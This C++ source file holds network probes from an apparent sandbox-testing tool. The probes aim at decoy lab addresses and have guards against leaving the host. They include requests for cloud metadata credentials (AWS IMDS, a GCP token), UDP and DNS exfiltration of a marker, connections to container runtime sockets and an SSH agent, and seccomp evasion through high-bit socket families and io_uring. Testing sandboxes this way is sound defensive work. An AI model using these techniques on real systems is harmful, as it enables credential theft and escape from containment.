// Network boundary. Every packet goes to a decoy of the lab's address plan
// (probes/lab/lab_addresses.h), which exists only inside the lab namespace sandgate makes: run
// natively outside the lab, these probes simply fail to connect. Unix sockets (container
// runtimes, SSH agent) are local. AF_VSOCK is created but never connected: CID 2 is the real
// hypervisor, outside every namespace (docs/DESIGN.md, "Safety rules").
#include <arpa/inet.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <linux/vm_sockets.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

#include <cstdlib>
#include <cstring>
#include <fstream>
#include <optional>
#include <sstream>
#include <utility>
#include <vector>

#include "probes/catalogue.h"
#include "probes/lab/lab_addresses.h"
#include "probes/probe_util.h"

namespace sandgate::probes {
namespace {

using namespace util;

constexpr int kTimeoutMs = 1000;

// Where a packet to a decoy would go from this network namespace, found without sending one:
// a UDP connect() only consults the routing table, and for a local destination the kernel
// picks the destination itself as the source address.
enum class Route { kLocal, kNoRoute, kOffHost };
Route route_to(int family, const std::string& address) {
  int fd = ::socket(family, SOCK_DGRAM | SOCK_CLOEXEC, 0);
  if (fd < 0) return Route::kNoRoute;
  sockaddr_storage dst{}, src{};
  socklen_t len;
  if (family == AF_INET6) {
    auto* a = reinterpret_cast<sockaddr_in6*>(&dst);
    a->sin6_family = AF_INET6;
    a->sin6_port = htons(9);
    ::inet_pton(AF_INET6, address.c_str(), &a->sin6_addr);
    len = sizeof(sockaddr_in6);
  } else {
    auto* a = reinterpret_cast<sockaddr_in*>(&dst);
    a->sin_family = AF_INET;
    a->sin_port = htons(9);
    ::inet_pton(AF_INET, address.c_str(), &a->sin_addr);
    len = sizeof(sockaddr_in);
  }
  if (::connect(fd, reinterpret_cast<sockaddr*>(&dst), len) != 0) {
    ::close(fd);
    return Route::kNoRoute;  // ENETUNREACH: a real connect fails here too, locally
  }
  socklen_t slen = sizeof src;
  ::getsockname(fd, reinterpret_cast<sockaddr*>(&src), &slen);
  ::close(fd);
  bool local = family == AF_INET6
                   ? std::memcmp(&reinterpret_cast<sockaddr_in6*>(&src)->sin6_addr,
                                 &reinterpret_cast<sockaddr_in6*>(&dst)->sin6_addr, 16) == 0
                   : reinterpret_cast<sockaddr_in*>(&src)->sin_addr.s_addr ==
                         reinterpret_cast<sockaddr_in*>(&dst)->sin_addr.s_addr;
  return local ? Route::kLocal : Route::kOffHost;
}

// Refuses to send when the decoy is not on this namespace's own loopback and a route leads
// elsewhere: that is not the lab, and the packet could leave the machine (docs/DESIGN.md, "Safety
// rules"). lab_routed=1 says the launcher guarantees every route here ends in the lab.
std::optional<ProbeReport> outside_lab(const Params& p, int family, const std::string& address,
                                       const std::string& attempt) {
  if (route_to(family, address) != Route::kOffHost || p.get("lab_routed") == "1")
    return std::nullopt;
  return precondition_failed(attempt,
                             address +
                                 " is not local here and a route leads off this network "
                                 "namespace: not inside the lab, nothing sent",
                             {{"peer", address}});
}

std::string peer_name(int family, const std::string& address, uint16_t port) {
  return (family == AF_INET6 ? "[" + address + "]" : address) + ":" + std::to_string(port);
}

// One HTTP request to a decoy; reached when the TCP connection was accepted.
ProbeReport http_request(const Params& p, int family, const std::string& address, uint16_t port,
                         const std::string& method, const std::string& path,
                         const std::string& extra_headers) {
  std::string peer = peer_name(family, address, port);
  auto m = marker(p);
  if (!m) return missing_param(method + " " + path + " to " + peer, "marker");
  std::string target = path + "?sandgate=" + *m;
  std::string attempt = method + " http://" + peer + target;
  if (auto refused = outside_lab(p, family, address, attempt)) return *refused;
  int fd = connect_tcp(family, address, port, kTimeoutMs);
  Json ev = {{"peer", peer}, {"connected", fd >= 0}};
  if (fd < 0) {
    ev["syscall"] = "connect";  // TCP: the judge tells Landlock's EACCES from a route's refusal
    return failed(attempt, -fd, ev);
  }
  std::string host = family == AF_INET6 ? "[" + address + "]" : address;
  std::string request = method + " " + target + " HTTP/1.1\r\nHost: " + host +
                        "\r\nX-Sandgate-Marker: " + *m + "\r\n" + extra_headers +
                        "Content-Length: 0\r\nConnection: close\r\n\r\n";
  int err = send_all(fd, request);
  ev["bytes_sent"] = err ? 0 : request.size();
  std::string reply = err ? "" : recv_some(fd, kTimeoutMs);
  ::close(fd);
  ev["bytes_received"] = reply.size();
  ev["response_first_line"] = printable(first_line(reply), 200);
  return reached(attempt, ev);
}

ProbeReport metadata_v4_get(const Params& p) {
  return http_request(p, AF_INET, lab::kMetadataV4, lab::kMetadataPort, "GET",
                      "/latest/meta-data/iam/security-credentials/", "");
}

ProbeReport metadata_v4_imdsv2(const Params& p) {
  return http_request(p, AF_INET, lab::kMetadataV4, lab::kMetadataPort, "PUT", "/latest/api/token",
                      "X-aws-ec2-metadata-token-ttl-seconds: 21600\r\n");
}

ProbeReport metadata_v4_google(const Params& p) {
  return http_request(p, AF_INET, lab::kMetadataV4, lab::kMetadataPort, "GET",
                      "/computeMetadata/v1/instance/service-accounts/default/token",
                      "Metadata-Flavor: Google\r\n");
}

ProbeReport metadata_v6_get(const Params& p) {
  return http_request(p, AF_INET6, lab::kMetadataV6, lab::kMetadataPort, "GET",
                      "/latest/meta-data/", "");
}

ProbeReport production_tcp(const Params& p) {
  return http_request(p, AF_INET, lab::kProductionHost, lab::kProductionPort, "GET", "/", "");
}

ProbeReport registry_allowed(const Params& p) {
  return http_request(p, AF_INET, lab::kRegistryHost, lab::kRegistryPort, "GET", "/v2/", "");
}

ProbeReport registry_other_port(const Params& p) {
  return http_request(p, AF_INET, lab::kRegistryHost, lab::kRegistryOtherPort, "GET", "/", "");
}

// Sends one datagram to a decoy and waits briefly for an answer. Reached when the datagram
// left (sendto succeeded): only the decoy's log can say whether it arrived.
struct Datagram {
  int err = 0;
  size_t sent = 0;
  std::string reply;
};
Datagram send_datagram(const std::string& address, uint16_t port, const std::string& payload) {
  Datagram d;
  int fd = ::socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
  if (fd < 0) {
    d.err = errno;
    return d;
  }
  sockaddr_in a{};
  a.sin_family = AF_INET;
  a.sin_port = htons(port);
  ::inet_pton(AF_INET, address.c_str(), &a.sin_addr);
  if (::connect(fd, reinterpret_cast<sockaddr*>(&a), sizeof a) != 0 ||
      ::send(fd, payload.data(), payload.size(), 0) < 0) {
    d.err = errno;
    ::close(fd);
    return d;
  }
  d.sent = payload.size();
  struct pollfd pfd = {fd, POLLIN, 0};
  if (::poll(&pfd, 1, kTimeoutMs) > 0) {
    char buf[1500];
    ssize_t n = ::recv(fd, buf, sizeof buf, 0);
    if (n > 0) d.reply.assign(buf, static_cast<size_t>(n));
  }
  ::close(fd);
  return d;
}

ProbeReport udp_exfil(const Params& p) {
  std::string peer = peer_name(AF_INET, lab::kProductionHost, lab::kProductionUdpPort);
  auto m = marker(p);
  if (!m) return missing_param("UDP datagram to " + peer, "marker");
  std::string attempt = "send a UDP datagram carrying the marker to " + peer;
  if (auto refused = outside_lab(p, AF_INET, lab::kProductionHost, attempt)) return *refused;
  Datagram d =
      send_datagram(lab::kProductionHost, lab::kProductionUdpPort, "sandgate " + *m + "\n");
  Json ev = {{"peer", peer}, {"bytes_sent", d.sent}, {"reply_bytes", d.reply.size()}};
  if (d.err) return failed(attempt, d.err, ev);
  return reached(attempt, ev);
}

std::string dns_query(const std::string& name, uint16_t id) {
  std::string q;
  auto u16 = [&](uint16_t v) {
    q += static_cast<char>(v >> 8);
    q += static_cast<char>(v & 0xff);
  };
  u16(id);
  u16(0x0100);  // standard query, recursion desired
  u16(1);       // one question
  u16(0);
  u16(0);
  u16(0);
  size_t start = 0;
  while (start < name.size()) {
    size_t dot = name.find('.', start);
    if (dot == std::string::npos) dot = name.size();
    q += static_cast<char>(dot - start);
    q += name.substr(start, dot - start);
    start = dot + 1;
  }
  q += '\0';
  u16(1);  // A
  u16(1);  // IN
  return q;
}

// rcode, answer count and the first A record of a DNS reply (RFC 1035 4.1).
Json parse_dns_reply(const std::string& r) {
  Json ev = Json::object();
  if (r.size() < 12) return ev;
  auto u8 = [&](size_t i) { return static_cast<unsigned char>(r[i]); };
  auto u16 = [&](size_t i) { return static_cast<unsigned>(u8(i) << 8 | u8(i + 1)); };
  ev["rcode"] = u16(2) & 0xf;
  unsigned answers = u16(6);
  ev["answers"] = answers;
  size_t i = 12;
  auto skip_name = [&]() {
    while (i < r.size()) {
      unsigned len = u8(i);
      if ((len & 0xc0) == 0xc0) {
        i += 2;
        return;
      }
      i += 1 + len;
      if (len == 0) return;
    }
  };
  skip_name();
  i += 4;  // qtype, qclass
  for (unsigned a = 0; a < answers && i < r.size(); ++a) {
    skip_name();
    if (i + 10 > r.size()) break;
    unsigned type = u16(i), rdlen = u16(i + 8);
    i += 10;
    if (type == 1 && rdlen == 4 && i + 4 <= r.size()) {
      ev["first_a"] = std::to_string(u8(i)) + "." + std::to_string(u8(i + 1)) + "." +
                      std::to_string(u8(i + 2)) + "." + std::to_string(u8(i + 3));
      break;
    }
    i += rdlen;
  }
  return ev;
}

ProbeReport dns_exfil(const Params& p) {
  std::string peer = peer_name(AF_INET, lab::kDnsServer, lab::kDnsPort);
  auto m = marker(p);
  if (!m) return missing_param("DNS query to " + peer, "marker");
  std::string name = *m + "." + lab::kExfilDomain;
  std::string attempt = "DNS A query for " + name + " to " + peer;
  if (auto refused = outside_lab(p, AF_INET, lab::kDnsServer, attempt)) return *refused;
  Datagram d = send_datagram(lab::kDnsServer, lab::kDnsPort,
                             dns_query(name, static_cast<uint16_t>(::getpid())));
  Json ev = {
      {"peer", peer}, {"name", name}, {"bytes_sent", d.sent}, {"reply_bytes", d.reply.size()}};
  if (!d.reply.empty()) ev["reply"] = parse_dns_reply(d.reply);
  if (d.err) return failed(attempt, d.err, ev);
  return reached(attempt, ev);
}

// The resolver this sandbox is given: the `nameserver` parameter (natively: the lab's DNS),
// or the first nameserver of /etc/resolv.conf if it is an allowlisted sandgate run's own
// resolver (198.18.0.0/15, the upstream side of the run's link: it refuses what is not listed
// and never forwards it). Any other resolver (the host's, a stub on loopback that forwards to
// the real network) is never asked: `why` says so and the result is empty.
std::string configured_nameserver(const Params& p, std::string& why) {
  if (auto given = p.get("nameserver"); given && !given->empty()) return *given;
  std::ifstream conf("/etc/resolv.conf");
  std::string line;
  while (std::getline(conf, line)) {
    std::istringstream words(line);
    std::string key, value;
    if (!(words >> key >> value) || key != "nameserver") continue;
    in_addr a{};
    if (::inet_pton(AF_INET, value.c_str(), &a) != 1) continue;
    const uint32_t host = ntohl(a.s_addr);
    if ((host & 0xfffe0000u) == ((198u << 24) | (18u << 16))) return value;
    why = "the nameserver of /etc/resolv.conf (" + value +
          ") is not a sandgate run's resolver (198.18.0.0/15): not asked, nothing sent";
    return "";
  }
  why = "no IPv4 nameserver in /etc/resolv.conf: no resolver here";
  return "";
}

// DNS exfiltration through the sandbox's own resolver: the marker as a name, asked of the
// nameserver it is configured with. A resolver that refuses the name (rcode 5) is a refusal
// (ECONNREFUSED, the rcode in the evidence); whether it forwarded the name is for the host to
// say (the lab's DNS logs every name it is asked).
ProbeReport dns_exfil_resolver(const Params& p) {
  auto m = marker(p);
  if (!m) return missing_param("DNS query to the configured resolver", "marker");
  std::string why;
  std::string server = configured_nameserver(p, why);
  std::string name = *m + "." + lab::kExfilDomain;
  std::string attempt = "DNS A query for " + name + " to the resolver of /etc/resolv.conf";
  if (server.empty()) return precondition_failed(attempt, why);
  attempt += " (" + server + ")";
  if (auto refused = outside_lab(p, AF_INET, server, attempt)) return *refused;
  Datagram d =
      send_datagram(server, lab::kDnsPort, dns_query(name, static_cast<uint16_t>(::getpid())));
  Json ev = {{"peer", peer_name(AF_INET, server, lab::kDnsPort)},
             {"name", name},
             {"bytes_sent", d.sent},
             {"reply_bytes", d.reply.size()}};
  if (!d.reply.empty()) ev["reply"] = parse_dns_reply(d.reply);
  if (d.err) return failed(attempt, d.err, ev);
  if (!d.reply.empty() && ev["reply"].value("rcode", 0) == 5)
    return failed(attempt, ECONNREFUSED, ev, "the resolver answered REFUSED");
  return reached(attempt, ev);
}

// The allow-listed registry by its name: resolved through the configured resolver, then one
// HTTP request to the address it answered.
ProbeReport registry_by_name(const Params& p) {
  std::string why;
  std::string server = configured_nameserver(p, why);
  std::string attempt = std::string("resolve ") + lab::kRegistryName +
                        " through the resolver of /etc/resolv.conf, then GET https://" +
                        lab::kRegistryName + ":" + std::to_string(lab::kRegistryPort) + "/v2/";
  if (server.empty()) return precondition_failed(attempt, why);
  if (auto refused = outside_lab(p, AF_INET, server, attempt)) return *refused;
  Datagram d = send_datagram(server, lab::kDnsPort,
                             dns_query(lab::kRegistryName, static_cast<uint16_t>(::getpid())));
  Json ev = {{"nameserver", server}, {"name", lab::kRegistryName}};
  if (!d.reply.empty()) ev["reply"] = parse_dns_reply(d.reply);
  if (d.err) return failed(attempt, d.err, ev);
  if (d.reply.empty()) return failed(attempt, ETIMEDOUT, ev, "the resolver did not answer");
  const Json& reply = ev["reply"];
  if (reply.value("rcode", 0) == 5)
    return failed(attempt, ECONNREFUSED, ev, "the resolver answered REFUSED");
  if (!reply.contains("first_a")) return failed(attempt, ENOENT, ev, "no A record in the answer");
  std::string address = reply["first_a"].get<std::string>();
  ProbeReport r = http_request(p, AF_INET, address, lab::kRegistryPort, "GET", "/v2/", "");
  r.attempt = attempt + " (" + address + ")";
  r.evidence["resolved"] = address;
  r.evidence["nameserver"] = server;
  return r;
}

// A bit above the 32 the kernel reads of socket's `int family`: the register is 64 bits wide,
// and a filter that compares all of it sees a family that is not the one the kernel uses.
constexpr unsigned long kIgnoredHighBit = 1UL << 32;

// socket(family, ...) as called, and its twin with kIgnoredHighBit set, by raw syscall (libc's
// socket() would truncate the family to an int). on_socket(fd) adds to each made socket's
// evidence before it is closed. Reached if either made a socket.
template <typename F>
ProbeReport socket_and_high_bit_twin(std::string attempt, int family, int type, int protocol,
                                     F on_socket) {
  Json ev = {{"syscall", "socket"}};
  std::vector<int> errs;
  for (auto [key, value] :
       {std::pair{"plain", static_cast<unsigned long>(family)},
        std::pair{"high_bits", kIgnoredHighBit | static_cast<unsigned>(family)}}) {
    long fd = ::syscall(SYS_socket, value, type | SOCK_CLOEXEC, protocol);
    int err = fd < 0 ? errno : 0;
    Json one = {{"socket", outcome(err)}};
    if (fd >= 0) {
      on_socket(static_cast<int>(fd), one);
      ::close(static_cast<int>(fd));
    }
    ev[key] = one;
    errs.push_back(err);
  }
  return combine(std::move(attempt), errs, ev);
}

ProbeReport make_socket(const std::string& what, int domain, int type, int protocol) {
  std::string attempt = "socket(" + what + ") (created and closed, nothing sent)";
  int fd = ::socket(domain, type | SOCK_CLOEXEC, protocol);
  if (fd < 0) return failed(attempt, errno);
  ::close(fd);
  return reached(attempt);
}

ProbeReport raw_socket(const Params&) {
  return make_socket("AF_INET, SOCK_RAW, IPPROTO_ICMP", AF_INET, SOCK_RAW, IPPROTO_ICMP);
}

ProbeReport packet_socket(const Params&) {
  return socket_and_high_bit_twin(
      "socket(AF_PACKET, SOCK_RAW) and socket((1<<32) | AF_PACKET, SOCK_RAW) (created and "
      "closed, nothing sent)",
      AF_PACKET, SOCK_RAW, 0, [](int, Json&) {});
}

// SAFETY: an AF_VSOCK socket is created and bound to an ephemeral port of any local CID, never
// connected: CID 2 is the real hypervisor, outside every namespace sandgate makes.
ProbeReport vsock(const Params&) {
  std::string attempt =
      "socket(AF_VSOCK) and socket((1<<32) | AF_VSOCK), each bound and closed; connect to CID 2 "
      "deliberately not attempted (the real hypervisor is outside every lab namespace)";
  ProbeReport r =
      socket_and_high_bit_twin(attempt, AF_VSOCK, SOCK_STREAM, 0, [](int fd, Json& one) {
        sockaddr_vm a{};
        a.svm_family = AF_VSOCK;
        a.svm_cid = VMADDR_CID_ANY;
        a.svm_port = VMADDR_PORT_ANY;
        one["bind"] =
            outcome(::bind(fd, reinterpret_cast<sockaddr*>(&a), sizeof a) == 0 ? 0 : errno);
      });
  int dev = ::open("/dev/vsock", O_RDONLY | O_CLOEXEC);
  if (dev >= 0) {
    unsigned int cid = 0;
    if (::ioctl(dev, IOCTL_VM_SOCKETS_GET_LOCAL_CID, &cid) == 0) r.evidence["local_cid"] = cid;
    ::close(dev);
  }
  return r;
}

ProbeReport io_uring_socket(const Params&) {
  std::string attempt = "io_uring_setup, then IORING_OP_SOCKET (AF_INET stream) through the ring";
  io_uring_params params{};
  int ring = static_cast<int>(::syscall(__NR_io_uring_setup, 4, &params));
  if (ring < 0) return failed(attempt, errno, {{"step", "io_uring_setup"}});
  size_t sq_size = params.sq_off.array + params.sq_entries * sizeof(unsigned);
  size_t cq_size = params.cq_off.cqes + params.cq_entries * sizeof(io_uring_cqe);
  bool single = params.features & IORING_FEAT_SINGLE_MMAP;
  if (single) sq_size = cq_size = std::max(sq_size, cq_size);
  auto* sq = static_cast<char*>(
      ::mmap(nullptr, sq_size, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQ_RING));
  auto* cq = single ? sq
                    : static_cast<char*>(::mmap(nullptr, cq_size, PROT_READ | PROT_WRITE,
                                                MAP_SHARED, ring, IORING_OFF_CQ_RING));
  size_t sqes_size = params.sq_entries * sizeof(io_uring_sqe);
  auto* sqes = static_cast<io_uring_sqe*>(
      ::mmap(nullptr, sqes_size, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQES));
  if (sq == MAP_FAILED || cq == MAP_FAILED || sqes == MAP_FAILED) {
    int err = errno;
    ::close(ring);
    return failed(attempt, err, {{"step", "mmap rings"}});
  }
  auto* tail = reinterpret_cast<unsigned*>(sq + params.sq_off.tail);
  unsigned mask = *reinterpret_cast<unsigned*>(sq + params.sq_off.ring_mask);
  auto* array = reinterpret_cast<unsigned*>(sq + params.sq_off.array);
  unsigned index = *tail & mask;
  io_uring_sqe* sqe = &sqes[index];
  std::memset(sqe, 0, sizeof *sqe);
  sqe->opcode = IORING_OP_SOCKET;
  sqe->fd = AF_INET;
  sqe->off = SOCK_STREAM;
  sqe->user_data = 1;
  array[index] = index;
  __atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
  long entered = ::syscall(__NR_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, nullptr, 0);
  int enter_err = entered < 0 ? errno : 0;
  int res = -EIO;
  if (entered >= 0) {
    auto* cq_head = reinterpret_cast<unsigned*>(cq + params.cq_off.head);
    unsigned cq_mask = *reinterpret_cast<unsigned*>(cq + params.cq_off.ring_mask);
    auto* cqes = reinterpret_cast<io_uring_cqe*>(cq + params.cq_off.cqes);
    res = cqes[*cq_head & cq_mask].res;
  }
  ::munmap(sqes, sqes_size);
  if (!single) ::munmap(cq, cq_size);
  ::munmap(sq, sq_size);
  ::close(ring);
  if (enter_err) return failed(attempt, enter_err, {{"step", "io_uring_enter"}});
  if (res < 0) return failed(attempt, -res, {{"step", "IORING_OP_SOCKET"}});
  ::close(res);
  return reached(attempt, {{"socket_fd", res}});
}

ProbeReport runtime_sockets(const Params& p) {
  std::string uid = std::to_string(::getuid());
  std::vector<std::string> paths = {"/var/run/docker.sock",
                                    "/run/docker.sock",
                                    "/run/containerd/containerd.sock",
                                    "/var/run/containerd/containerd.sock",
                                    "/run/podman/podman.sock",
                                    "/run/user/" + uid + "/podman/podman.sock",
                                    "/run/user/" + uid + "/docker.sock",
                                    "/run/crio/crio.sock",
                                    "/run/buildkit/buildkitd.sock"};
  for (const auto& extra : p.list("extra_sockets")) paths.push_back(extra);
  std::vector<int> errs;
  Json per = Json::object();
  for (const auto& path : paths) {
    int fd = connect_unix(path, false, kTimeoutMs);
    int err = fd < 0 ? -fd : 0;
    if (fd >= 0) ::close(fd);
    per[path] = outcome(err);
    errs.push_back(err);
  }
  return combine("connect to the container runtime sockets (docker, containerd, podman, crio)",
                 errs, {{"sockets", per}});
}

ProbeReport ssh_agent(const Params& p) {
  std::string attempt = "connect to the SSH agent and list its identities";
  std::vector<std::string> paths;
  if (const char* env = std::getenv("SSH_AUTH_SOCK"); env && *env) paths.push_back(env);
  if (auto param = p.get("ssh_auth_sock"); param && (paths.empty() || paths[0] != *param))
    paths.push_back(*param);
  if (paths.empty()) {
    return failed(attempt, ENOENT, {{"SSH_AUTH_SOCK", nullptr}},
                  "SSH_AUTH_SOCK is not set here and no ssh_auth_sock parameter was given");
  }
  std::vector<int> errs;
  Json per = Json::object();
  for (const auto& path : paths) {
    int fd = connect_unix(path, false, kTimeoutMs);
    if (fd < 0) {
      per[path] = {{"connect", outcome(-fd)}};
      errs.push_back(-fd);
      continue;
    }
    // SSH_AGENTC_REQUEST_IDENTITIES (11); the answer (12) carries the key count.
    static const char kRequest[] = {0, 0, 0, 1, 11};
    int err = send_all(fd, std::string_view(kRequest, sizeof kRequest));
    std::string reply = err ? "" : recv_some(fd, kTimeoutMs, 9);
    ::close(fd);
    Json entry = {{"connect", "ok"}, {"reply_bytes", reply.size()}};
    if (reply.size() >= 9 && static_cast<unsigned char>(reply[4]) == 12) {
      auto b = [&](size_t i) {
        return static_cast<unsigned>(static_cast<unsigned char>(reply[i]));
      };
      entry["identities"] = b(5) << 24 | b(6) << 16 | b(7) << 8 | b(8);
    }
    per[path] = entry;
    errs.push_back(0);
  }
  return combine(attempt, errs, {{"agents", per}});
}

ProbeReport interfaces(const Params&) {
  std::string attempt = "list network interfaces and routes (/proc/net; nothing sent)";
  Json ifaces = Json::array();
  std::ifstream dev("/proc/net/dev");
  if (!dev) return failed(attempt, errno ? errno : ENOENT);
  std::string line;
  bool beyond_loopback = false;
  for (int n = 0; std::getline(dev, line); ++n) {
    if (n < 2) continue;
    auto colon = line.find(':');
    if (colon == std::string::npos) continue;
    std::string name = line.substr(0, colon);
    name.erase(0, name.find_first_not_of(' '));
    ifaces.push_back(name);
    if (name != "lo") beyond_loopback = true;
  }
  size_t v4_routes = 0, v6_routes_off_lo = 0;
  std::ifstream route("/proc/net/route");
  for (int n = 0; std::getline(route, line); ++n)
    if (n > 0 && !line.empty()) ++v4_routes;
  std::ifstream route6("/proc/net/ipv6_route");
  while (std::getline(route6, line)) {
    // The device is the last field.
    std::string device = line.substr(line.find_last_of(' ') + 1);
    if (!device.empty() && device != "lo") ++v6_routes_off_lo;
  }
  Json ev = {{"interfaces", ifaces},
             {"ipv4_routes", v4_routes},
             {"ipv6_routes_off_loopback", v6_routes_off_lo}};
  if (beyond_loopback || v4_routes > 0 || v6_routes_off_lo > 0) return reached(attempt, ev);
  return failed(attempt, ENETUNREACH, ev, "loopback only: no interface or route off the sandbox");
}

}  // namespace

Status register_net_probes(Catalogue& c) {
  SG_TRY(c.add({"net.interfaces", "list interfaces and routes beyond loopback", {}, interfaces}));
  SG_TRY(c.add({"net.metadata_v4_get",
                "GET the IPv4 instance metadata service",
                {"marker", "lab_routed"},
                metadata_v4_get}));
  SG_TRY(c.add({"net.metadata_v4_imdsv2",
                "PUT an IMDSv2 token request to 169.254.169.254",
                {"marker", "lab_routed"},
                metadata_v4_imdsv2}));
  SG_TRY(c.add({"net.metadata_v4_google",
                "GET GCP metadata with Metadata-Flavor: Google",
                {"marker", "lab_routed"},
                metadata_v4_google}));
  SG_TRY(c.add({"net.metadata_v6_get",
                "GET the IPv6 instance metadata service fd00:ec2::254",
                {"marker", "lab_routed"},
                metadata_v6_get}));
  SG_TRY(c.add({"net.production_tcp",
                "connect to the production host 203.0.113.10:443",
                {"marker", "lab_routed"},
                production_tcp}));
  SG_TRY(c.add({"net.registry_allowed",
                "connect to the allow-listed registry 203.0.113.20:443",
                {"marker", "lab_routed"},
                registry_allowed}));
  SG_TRY(c.add({"net.registry_other_port",
                "connect to a non-allow-listed port on the registry 203.0.113.20:8080",
                {"marker", "lab_routed"},
                registry_other_port}));
  SG_TRY(c.add({"net.udp_exfil",
                "UDP datagram with the marker to 203.0.113.10:514",
                {"marker", "lab_routed"},
                udp_exfil}));
  SG_TRY(c.add({"net.dns_exfil",
                "DNS query for MARKER.exfil.sandgate.test to 203.0.113.53",
                {"marker", "lab_routed"},
                dns_exfil}));
  SG_TRY(c.add({"net.dns_exfil_resolver",
                "DNS query for MARKER.exfil.sandgate.test to the resolver of /etc/resolv.conf",
                {"marker", "lab_routed", "nameserver"},
                dns_exfil_resolver}));
  SG_TRY(c.add({"net.registry_by_name",
                "resolve registry.sandgate.test through /etc/resolv.conf's resolver, then connect",
                {"marker", "lab_routed", "nameserver"},
                registry_by_name}));
  SG_TRY(c.add({"net.raw_socket", "create a raw ICMP socket", {}, raw_socket}));
  SG_TRY(c.add({"net.packet_socket",
                "create an AF_PACKET socket (also with high bits set in the family)",
                {},
                packet_socket}));
  SG_TRY(c.add({"net.vsock",
                "create and bind an AF_VSOCK socket (also with high bits set in the family)",
                {},
                vsock}));
  SG_TRY(c.add({"net.io_uring_socket", "create a socket through io_uring", {}, io_uring_socket}));
  SG_TRY(c.add({"net.runtime_sockets",
                "connect to container runtime sockets",
                {"extra_sockets"},
                runtime_sockets}));
  SG_TRY(c.add({"net.ssh_agent", "talk to the SSH agent", {"ssh_auth_sock"}, ssh_agent}));
  return {};
}

}  // namespace sandgate::probes
